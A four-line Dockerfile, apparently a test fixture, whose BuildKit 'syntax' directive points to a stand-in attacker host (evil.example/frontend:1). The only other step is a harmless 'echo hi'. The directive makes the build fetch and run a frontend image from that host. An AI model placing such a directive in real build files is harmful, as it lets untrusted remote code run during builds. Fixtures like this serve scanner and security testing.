#!/usr/bin/env docker-build
# syntax=evil.example/frontend:1
FROM python:3.12
RUN echo hi
